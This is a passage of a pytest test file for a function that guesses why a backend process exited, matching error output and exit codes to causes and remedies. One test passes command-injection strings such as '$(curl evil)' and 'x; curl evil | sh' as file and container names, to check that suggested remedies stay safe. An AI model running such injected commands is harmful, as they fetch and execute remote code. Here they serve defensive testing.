    ("another_instance", ONE, "FATAL:  lock file \"postmaster.pid\" already exists\nHINT:  Is another postmaster (PID 311) running in data directory \"/x\"?\n", "lock file"),
    ("certificate_untrusted", ONE, "ssl.SSLCertVerificationError: [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: self-signed certificate in certificate chain (_ssl.c:1006)\n", "not trusted"),
    ("certificate_untrusted", ONE, "Error: self signed certificate in certificate chain\n    at TLSSocket.onConnectSecure (node:_tls_wrap:1)\n\nNode.js v20\n", "not trusted"),
    ("encoding", ONE, "UnicodeEncodeError: 'charmap' codec can't encode character '\\u2713' in position 0: character maps to <undefined>\n", "encoding"),
    ("locale", ONE, "locale.Error: unsupported locale setting\n", "LC_ALL"),
    ("locale", ABORT, "terminate called after throwing an instance of 'std::runtime_error'\n  what():  locale::facet::_S_create_c_locale name not valid\n", "LC_ALL"),
    ("terminal", ONE, "the input device is not a TTY\n", "terminal"),
    ("terminal", ONE, "ERROR Raw mode is not supported on the current process.stdin, which Ink uses as input stream by default.\n", "terminal"),
    ("terminal", ONE, "sudo: a terminal is required to read the password; either use the -S option to read from standard input or configure an askpass helper\nsudo: a password is required\n", "terminal"),
    ("terminal", ONE, "termios.error: (25, 'Inappropriate ioctl for device')\n", "terminal"),
    ("file_missing", ONE, "Traceback (most recent call last):\n  File \"/app/main.py\", line 3, in <module>\n    open('config.json')\nFileNotFoundError: [Errno 2] No such file or directory: 'config.json'\n", "config.json"),
    ("file_missing", ONE, "node:fs:573\n  return binding.open(\n\nError: ENOENT: no such file or directory, open 'config.json'\n    at Object.openSync (node:fs:573:18)\n    at Object.<anonymous> (/app/server.js:3:5) {\n  errno: -2,\n  code: 'ENOENT',\n  syscall: 'open',\n  path: 'config.json'\n}\n\nNode.js v20.20.2\n", "config.json"),
    ("file_missing", ExitStatus(code=2), "panic: open config.yaml: no such file or directory\n\ngoroutine 1 [running]:\nmain.main()\n\t/app/main.go:5 +0x1d\nexit status 2\n", "config.yaml"),
    ("file_missing", ONE, "Exception in thread \"main\" java.io.FileNotFoundException: config.properties (No such file or directory)\n\tat java.base/java.io.FileInputStream.open0(Native Method)\n\tat Main.main(Main.java:5)\n", "config.properties"),
    ("file_missing", ABORT, "Unhandled exception. System.IO.FileNotFoundException: The configuration file 'appsettings.json' was not found and is not optional. The expected physical path was '/tmp/appsettings.json'.\n   at Microsoft.Extensions.Configuration.FileConfigurationProvider.Load(Boolean reload)\n   at Program.<Main>$(String[] args)\n", "appsettings.json"),
    ("file_missing", ABORT, "Unhandled exception. System.IO.FileNotFoundException: Could not find file '/app/data/words.txt'.\nFile name: '/app/data/words.txt'\n   at Interop.ThrowExceptionForIoErrno(ErrorInfo errorInfo, String path, Boolean isDirError)\n", "/app/data/words.txt"),
    ("server_unreachable", ONE, "Error: connect ECONNREFUSED 127.0.0.1:27017\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16)\n\nNode.js v20\n", "127.0.0.1:27017"),
    ("server_unreachable", ONE, "psycopg2.OperationalError: connection to server at \"127.0.0.1\", port 5432 failed: Connection refused\n\tIs the server running on that host and accepting TCP/IP connections?\n", "port 5432"),
    ("name_unresolved", ONE, "Error: getaddrinfo ENOTFOUND redis\n    at GetAddrInfoReqWrap.onlookup (node:dns:1)\n\nNode.js v20\n", "redis"),
    ("exception", ONE, "Traceback (most recent call last):\n  File \"/app/main.py\", line 3, in <module>\n    os.path.join(None)\n  File \"<frozen posixpath>\", line 76, in join\nTypeError: not NoneType\n", "TypeError: not NoneType, at /app/main.py:3 in <module>."),
    ("openssl", ONE, "Error: error:0308010C:digital envelope routines::unsupported\n    at new Hash (node:internal/crypto/hash:71:19) {\n  code: 'ERR_OSSL_EVP_UNSUPPORTED'\n}\n\nNode.js v18\n", "of OpenSSL does not allow"),
    ("certificate_expired", ONE, "ssl.SSLCertVerificationError: certificate verify failed: certificate has expired (_ssl.c:1006)\n", "expired"),
    ("signature", ABORT, "dyld[1]: Library not loaded: @rpath/x.dylib\n  Reason: tried: '/app/x.dylib' (code signature in <A> '/app/x.dylib' not valid for use in process: mapping process and mapped file (non-platform) have different Team IDs)\n", "signed by another developer"),
    ("library_version", ABORT, "dyld[1]: Symbol not found: _foo\n  Referenced from: <X> /app/srv\n  Expected in: <Y> /usr/lib/libSystem.B.dylib\n", "_foo"),
    ("library_missing", ONE, "Error: Could not load the \"sharp\" module using the linux-x64 runtime\nPossible solutions:\n- Ensure optional dependencies can be installed\n    at Object.<anonymous> (/app/node_modules/sharp/lib/sharp.js:113:9)\n\nNode.js v20\n", "sharp"),
    ("library_missing", ONE, "Error: The specified module could not be found.\n\\\\?\\C:\\app\\x.node\n    at process.func [as dlopen] (node:electron/js2c/asar_bundle:5:1800)\n\nNode.js v20\n", "x.node"),
    ("command_missing", ONE, "'node' is not recognized as an internal or external command,\noperable program or batch file.\n", "node"),
    ("command_missing", ONE, 'Der Befehl "node" ist entweder falsch geschrieben oder\nkonnte nicht gefunden werden.\n', "program node,"),
    ("command_missing", ONE, "'node' n\u2019est pas reconnu en tant que commande interne\nou externe, un programme exécutable ou un fichier de commandes.\n", "program node,"),
    ("command_missing", ONE, '"node" no se reconoce como un comando interno o externo,\nprograma o archivo por lotes ejecutable.\n', "program node,"),
    ("command_missing", ONE, '"node" non è riconosciuto come comando interno o esterno,\n un programma eseguibile o un file batch.\n', "program node,"),
    ("command_missing", ONE, "'node' não é reconhecido como um comando interno\nou externo, um programa operável ou um arquivo em lotes.\n", "program node,"),
    ("command_missing", ONE, "'node' 不是内部或外部命令\uff0c也不是可运行的程序\n或批处理文件。\n", "program node,"),
    ("command_missing", ONE, "'node' は、内部コマンドまたは外部コマンド、\n操作可能なプログラムまたはバッチ ファイルとして認識されていません。\n", "program node,"),
    ("command_missing", ONE, "'node'은(는) 내부 또는 외부 명령, 실행할 수 있는 프로그램, 또는\n배치 파일이 아닙니다.\n", "program node,"),
    ("command_missing", ONE, '"node" не является внутренней или внешней\nкомандой, исполняемой программой или пакетным файлом.\n', "program node,"),  # noqa: RUF001 - Russian
    ("command_missing", ONE, "node : 无法将“node”项识别为 cmdlet、函数、脚本文件或可运行程序的名称。\n所在位置 行:1 字符: 1\n+ node\n+ ~~~~\n    + CategoryInfo          : ObjectNotFound: (node:String) [], CommandNotFoundException\n    + FullyQualifiedErrorId : CommandNotFoundException\n", "program node,"),
    ("command_missing", ExitStatus(code=103), "No suitable Python runtime found\nPass --list (-0) to see all detected environments on your machine\n", "py launcher"),
    ("environment_missing", ExitStatus(code=103), "No Python at '\"C:\\Users\\x\\AppData\\Local\\Programs\\Python\\Python311\\python.exe'\n", "Python311"),
    ("not_executable", ONE, "Traceback (most recent call last):\n  File \"C:\\app\\main.py\", line 3, in <module>\n    subprocess.Popen([\"helper.exe\"])\nOSError: [WinError 740] The requested operation requires elevation\n", "administrator rights"),
    ("file_missing", ExitStatus(code=0xFFFD0000), "The argument 'x.ps1' to the -File parameter does not exist. Provide the path to an existing '.ps1' file as an argument to the -File parameter.\nWindows PowerShell\nCopyright (C) Microsoft Corporation. All rights reserved.\n", "exist: x.ps1."),
    ("argument", ExitStatus(code=0xFFFD0000), "Das Argument \"x.ps1\" für den Parameter \"-File\" ist nicht vorhanden.\nWindows PowerShell\nCopyright (C) Microsoft Corporation. Alle Rechte vorbehalten.\n", "none of that name"),
    ("program_incomplete", ONE, "Exception in thread \"main\" java.lang.NoClassDefFoundError: org/slf4j/LoggerFactory\n\tat Main.main(Main.java:3)\n", "org/slf4j/LoggerFactory"),
    ("program_incomplete", ONE, "Error: Cannot find module @rollup/rollup-linux-x64-gnu. npm has a bug related to optional dependencies (https://github.com/npm/cli/issues/4828).\n    at requireWithFriendlyError (/app/node_modules/rollup/dist/native.js:64:9)\n\nNode.js v20\n", "@rollup/rollup-linux-x64-gnu."),
    ("gpu_missing", ONE, "Traceback (most recent call last):\n  File \"/app/db.py\", line 3, in connect\n    x()\nRuntimeError: Found no NVIDIA driver on your system. Please check that you have an NVIDIA GPU\n", "CUDA"),
    ("gpu_missing", ONE, "CUDA error: CUDA driver version is insufficient for CUDA runtime version\n", "CUDA"),
    ("overflow", ABORT, "\nthread 'main' has overflowed its stack\nfatal runtime error: stack overflow\n", "stack overflow"),
    ("native_crash", ABORT, "*** stack smashing detected ***: terminated\n", "corrupted"),
    ("native_crash", ABORT, "free(): invalid pointer\n", "corrupted"),
    ("native_crash", ONE, "=================================================================\n==1==ERROR: AddressSanitizer: heap-use-after-free on address 0x60\n", "corrupted"),
    ("encoding", ONE, "Traceback (most recent call last):\n  File \"/app/db.py\", line 3, in connect\n    x()\nUnicodeDecodeError: 'cp932' codec can't decode byte 0x81 in position 3: illegal multibyte sequence\n", "encoding"),
    ("display", ONE, "Traceback (most recent call last):\n  File \"/app/db.py\", line 3, in connect\n    x()\n_tkinter.TclError: no display name and no $DISPLAY environment variable\n", "screen"),
    ("display", ABORT, "qt.qpa.xcb: could not connect to display\nqt.qpa.plugin: Could not load the Qt platform plugin \"xcb\" in \"\" even though it was found.\nThis application failed to start because no Qt platform plugin could be initialized.\n", "screen"),
    ("server_unreachable", ABORT, "Unhandled exception. Npgsql.NpgsqlException (0x80004005): Failed to connect to 127.0.0.1:5432\n ---> System.Net.Sockets.SocketException (111): Connection refused\n   at Npgsql.Internal.NpgsqlConnector.Connect(NpgsqlTimeout timeout)\n", "127.0.0.1:5432"),
    ("server_unreachable", ABORT, "Unhandled exception. System.Net.Http.HttpRequestException: Connection refused (127.0.0.1:9200)\n ---> System.Net.Sockets.SocketException (111): Connection refused\n   at System.Net.Sockets.Socket.X()\n", "127.0.0.1:9200"),
    ("server_unreachable", ONE, "Traceback (most recent call last):\n  File \"/app/db.py\", line 3, in connect\n    x()\nsqlalchemy.exc.OperationalError: (psycopg2.OperationalError) connection to server at \"localhost\" (127.0.0.1), port 5432 failed: Connection refused\n\tIs the server running on that host and accepting TCP/IP connections?\n\n(Background on this error at: https://sqlalche.me/e/20/e3q8)\n", "port 5432"),
    ("server_unreachable", ONE, "Traceback (most recent call last):\n  File \"/app/db.py\", line 3, in connect\n    x()\nredis.exceptions.ConnectionError: Error 111 connecting to localhost:6379. Connection refused.\n", "localhost:6379"),
    ("server_unreachable", ONE, "Traceback (most recent call last):\n  File \"/app/db.py\", line 3, in connect\n    x()\npymongo.errors.ServerSelectionTimeoutError: localhost:27017: [Errno 111] Connection refused (configured timeouts: 20s)\n", "localhost:27017"),
    ("server_unreachable", ONE, "Traceback (most recent call last):\n  File \"/app/db.py\", line 3, in connect\n    x()\npymysql.err.OperationalError: (2003, \"Can't connect to MySQL server on 'localhost' ([Errno 111] Connection refused)\")\n", "localhost"),
    ("server_unreachable", ONE, "Error: connect EHOSTUNREACH 10.0.0.1:5432\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16)\n\nNode.js v20\n", "10.0.0.1:5432"),
    ("server_unreachable", ONE, "Exception in thread \"main\" java.net.ConnectException: Connection refused\n\tat java.base/sun.nio.ch.Net.pollConnect(Native Method)\n", "does not answer"),
    ("server_unreachable", ONE, "Traceback (most recent call last):\n  File \"/app/db.py\", line 3, in connect\n    x()\nConnectionRefusedError: [Errno 111] Connection refused\n", "does not answer"),
    ("aborted", ABORT, "mydb: assertion `open' failed\n", "aborted; its last error: mydb: assertion `open' failed."),
]  # fmt: skip


@pytest.mark.parametrize(
    ("before", "newline"),
    [
        pytest.param("", "\n", id="alone"),
        pytest.param(NOISE * 40, "\r\n", id="after much else", marks=pytest.mark.slow),
    ],
)
def test_the_cause_comes_from_the_output(before: str, newline: str) -> None:
    wrong = []
    for kind, status, output, words in SAID:
        cause = guess((before + output).replace("\n", newline), status, port=None)
        if cause is None or cause.kind != kind or words not in cause.cause or not cause.remedy.endswith("."):
            wrong.append((kind, output, cause))
    assert wrong == []


ENDED = [
    ("clean_exit", ExitStatus(code=0)),
    ("killed", ExitStatus(signal=9)),
    ("killed", ExitStatus(code=137)),
    ("terminated", ExitStatus(signal=15)),
    ("terminated", ExitStatus(code=143)),
    ("terminated", ExitStatus(code=0xC000013A)),
    ("terminated", ExitStatus(code=0xC000026B)),
    ("native_crash", ExitStatus(signal=11, core_dumped=True)),
    ("native_crash", ExitStatus(code=139)),
    ("native_crash", ExitStatus(code=0xC0000005)),
    ("native_crash", ExitStatus(code=0xC0000374)),
    ("illegal_instruction", ExitStatus(signal=4)),
    ("aborted", ExitStatus(signal=6)),
    ("library_missing", ExitStatus(code=0xC0000135)),
    ("library_missing", ExitStatus(code=0xC000007B)),
    ("native_crash", ExitStatus(code=0x80131506)),
    ("aborted", ExitStatus(code=0xE06D7363)),
    ("command_missing", ExitStatus(code=9009)),
    ("overflow", ExitStatus(code=0xC00000FD)),
    ("failfast", ExitStatus(code=0xC0000409)),
    ("exception", ExitStatus(code=0xE0434352)),
    ("runtime_missing", ExitStatus(code=0x80008096)),
    ("runtime_missing", ExitStatus(code=0x80008082)),
    ("incomplete", ExitStatus(code=0x8000808C)),
    ("bundle_unusable", ExitStatus(code=0x800080A0)),
    ("memory", ExitStatus(code=0xE0000008)),
    ("blocked", ExitStatus(code=0xC0000428)),
    ("blocked", ExitStatus(code=0xC0E90007)),
    ("blocked", ExitStatus(code=0x800700E1)),
    ("terminated", ExitStatus(code=0x40010004)),
    ("not_executable", ExitStatus(code=126)),
    ("command_missing", ExitStatus(code=127)),
    ("signal", ExitStatus(signal=64)),
    ("unknown", UNKNOWN),
    ("killed", ExitStatus(code=247)),  # Python: sys.exit(-9)
    ("worker_ended", ExitStatus(code=241)),
    ("native_crash", ExitStatus(code=245)),
]


@pytest.mark.parametrize(("kind", "status"), ENDED, ids=[f"{kind}: {status.text}" for kind, status in ENDED])
def test_without_output_the_status_decides(kind: str, status: ExitStatus) -> None:
    cause = guess(NOISE, status, port=5005)
    assert cause.kind == kind
    assert "{" not in cause.cause


@pytest.mark.parametrize("code", [1, 2, 64, 253, 254, 255, 300, 0xDEAD])
def test_nothing_is_guessed_without_evidence(code: int) -> None:
    assert guess(NOISE, ExitStatus(code=code), port=5005) is None


@pytest.mark.parametrize("name", ["fileExists", "fileAccess", "numberOfShards", "filePermissions", "timeBusy"])
def test_a_name_that_contains_the_letters_of_an_error_code_is_none(name: str) -> None:
    said = f"TypeError: Cannot read properties of undefined (reading '{name}')\n    at run (/app/x.js:3:5)\n"
    cause = guess(said, ONE, port=None)
    assert cause.kind == "exception"


def test_a_kill_from_outside_is_not_explained_by_earlier_output() -> None:
    cause = guess("warn: SQLite Error 5: 'database is locked', trying again\n", ExitStatus(signal=9), port=None)
    assert cause.kind == "killed"
    cluster = "Error: write EPIPE\n    at target._send (node:internal/child_process:878:20)\n\nNode.js v20.20.2\n"
    orphaned = guess(cluster, ExitStatus(signal=9), port=None)  # Node's workers, after their parent was killed
    assert orphaned.kind == "killed"


@pytest.mark.parametrize(
    ("oom", "kind", "words"),
    [(True, "oom_killed", "memory ran out"), (False, "killed", "was not involved"), (None, "killed", "usually")],
)
def test_the_kernel_knows_better_than_the_signal_whether_memory_ran_out(
    oom: bool | None, kind: str, words: str
) -> None:
    cause = guess(NOISE, ExitStatus(signal=9), port=None, oom=oom)
    assert cause.kind == kind
    assert words in cause.cause


@pytest.mark.parametrize(("oom", "words"), [(False, "was not involved"), (None, "usually")])
def test_the_kernel_knows_better_than_a_launcher_too(oom: bool | None, words: str) -> None:
    """npm, pnpm and others exit with 137 if the shell between them and the program does."""
    cause = guess("> node server.js\n\nKilled\n", ExitStatus(code=137), port=None, oom=oom)
    assert (cause.kind, words in cause.cause) == ("killed", True), cause.cause


def test_a_launchers_message_about_a_kill_yields_to_the_kernels_count() -> None:
    said = "up\nmake: *** [Makefile:2: all] Killed\n"
    assert guess(said, ExitStatus(code=2), port=None, oom=True).kind == "oom_killed"
    assert guess(said, ExitStatus(code=2), port=None).kind == "killed"
    assert guess("up\n", ExitStatus(code=1), port=None, oom=True) is None  # the app's perhaps, and long ago


def test_the_exception_that_led_to_a_python_exception_may_name_the_cause() -> None:
    end = 'Traceback (most recent call last):\n  File "/a.py", line 1, in <module>\nRuntimeError: could not start\n'
    why = end.replace("RuntimeError: could not start", "PermissionError: [Errno 13] Permission denied: '/data/x'")
    direct = "\nThe above exception was the direct cause of the following exception:\n\n"
    middle = end.replace("not start", "not open")
    cause = guess(why + direct + middle + direct + end, ONE, port=None)
    assert (cause.kind, cause.fatal.message) == ("permission", "could not start")
    handled = "\nDuring handling of the above exception, another exception occurred:\n\n"
    assert guess(why + handled + end, ONE, port=None).kind == "exception"


def test_an_error_that_was_survived_is_not_the_cause_of_a_later_exception() -> None:
    said = "SQLite Error 5: 'database is locked', trying again\nUnhandled exception. System.ArgumentException: bad\n   at A.B()\n"
    cause = guess(said, ABORT, port=None)
    assert cause.kind == "exception"


@pytest.mark.parametrize(
    "line",
    [
        "2026-01-01 10:00:00 INFO user 12: permission denied for /admin",
        "[info] out of memory guard enabled",
        "WARN self-signed certificate in use for development",
        "UserWarning: CUDA initialization: Found no NVIDIA driver on your system, using CPU",
        "npm warn deprecated x@1: too many open files, use another",
        '{"level":"warn","msg":"no space left on device, cleaning up"}',
        "note: 'ascii' codec can't encode character, it was replaced",
        "retry 1: connection refused (127.0.0.1:6379)",
    ],
)
def test_a_line_that_its_logger_calls_harmless_explains_no_end(line: str) -> None:
    assert guess(f"{line}\nbye\n", ONE, port=None) is None


def test_an_error_in_a_line_that_names_a_harmless_level_too_still_counts() -> None:
    for line in ("ERROR [info.js] no space left on device", "Error: cannot write /var/info/x: no space left on device"):
        cause = guess(f"{line}\n", ONE, port=None)
        assert cause.kind == "disk_full"


def test_a_warning_about_a_file_or_another_server_is_not_the_cause_of_an_exit() -> None:
    said = "warn: Error: connect ECONNREFUSED 127.0.0.1:6379, trying again\n[Error: ENOENT: no such file or directory, open '.env']\n"
    assert guess(said, ONE, port=None) is None


def test_of_two_exceptions_the_last_one_killed() -> None:
    said = "Traceback (most recent call last):\n  File \"a\", line 1, in b\nKeyError: 'x'\n" * 2
    fatal = find(said + 'Traceback (most recent call last):\n  File "c", line 2, in d\nValueError: last\n')
    assert (fatal.type, fatal.message, fatal.frame) == ("ValueError", "last", "c:2 in d")


def test_the_message_of_an_exception_is_one_line_of_bounded_length_and_keeps_its_inner_one() -> None:
    fatal = find(
        "Unhandled exception. System.A: outer\n ---> System.B: inner\n   at X.Y()\n   --- End of inner ---\n   at Z.W()\n"
    )
    assert (fatal.type, fatal.message, fatal.frame) == ("System.A", "outer ← System.B: inner", "X.Y()")
    long = find("Unhandled exception. System.A: " + "x" * 10_000)
    assert len(long.message) == 300


def test_the_runs_port_is_named_if_the_text_has_none() -> None:
    cause = guess("OSError: [Errno 98] nope", ONE, port=4711)
    assert cause.cause.startswith("Port 4711 ")


def test_a_port_in_the_text_is_named_instead_of_the_runs() -> None:
    cause = guess("Error: listen EADDRINUSE: address already in use 127.0.0.1:9229\n", ONE, port=4711)
    assert cause.cause.startswith("Port 9229 ")


@pytest.mark.parametrize(
    "name", ['x"; curl evil | sh; "', "$(curl evil)", "`curl evil`", "x; curl evil | sh", "-f x", "x\ncurl evil"]
)
def test_a_command_in_a_remedy_runs_nothing_that_the_backend_chose(name: str) -> None:
    for text in (f"sh: 1: {name}: permission denied\n", f'Conflict. The container name "{name}" is already in use\n'):
        cause = guess(text, ExitStatus(code=126), port=1)
        remedy = cause.remedy if cause else ""
        _, quoted, rest = remedy.partition('chmod u+x "')
        assert not quoted or not set(rest.removesuffix('".')) & set('"$`\\')
        assert "docker rm" not in remedy


def test_every_row_of_the_table_compiles_and_has_its_own_example() -> None:
    assert [row.kind for row in ROWS if not re.compile(row.pattern)] == []
    untested = {row.kind for row in ROWS} - {kind for kind, *_ in (*SAID, *SAID_AT_THE_END)}
    assert untested == {"java_version", "database_unopened"}


def _always_named(parts: Any, names: dict[int, str]) -> set[str]:
    """The groups that take part in every match, whichever way it goes; ``part2`` is a ``part``."""
    found: set[str] = set()
    for operation, argument in parts:
        kind = str(operation)
        if kind == "SUBPATTERN":
            number, _, _, inner = argument
            found |= {names[number]} if number in names else set()
            found |= _always_named(inner, names)
        elif kind.endswith("_REPEAT") and argument[0] > 0:
            found |= _always_named(argument[2], names)
        elif kind == "BRANCH":
            found |= set.intersection(*(_always_named(branch, names) for branch in argument[1]))
    return found


def test_no_row_names_what_its_pattern_may_not_have_found() -> None:
    """A backend whose last output was EBUSY ended the search for its cause with a KeyError."""

    def unfound(row: Row) -> set[str]:
        texts = (row.cause, row.remedy)
        used = {name for text in texts for _, name, _, _ in string.Formatter().parse(text) if name} - {"line"}
        names = {number: name.rstrip("0123456789") for name, number in re.compile(row.pattern).groupindex.items()}
        return used - _always_named(re._parser.parse(row.pattern), names)  # type: ignore[attr-defined]

    assert [(row.kind, row.pattern, unfound(row)) for row in ROWS if unfound(row)] == []


def test_a_large_output_without_any_cause_is_searched_quickly_and_honestly() -> None:
    assert guess((NOISE * 600)[:65_536], ONE, port=None) is None


def test_an_end_that_nothing_explains_is_searched_once(monkeypatch: pytest.MonkeyPatch) -> None:
    searched: list[str] = []
    monkeypatch.setattr(causes, "find", searched.append)
    said = f"{NOISE}searched once"
    assert [guess(said, status, port=5005) for status in (ONE, ExitStatus(code=3), ONE)] == [None] * 3
    assert len(searched) == 1
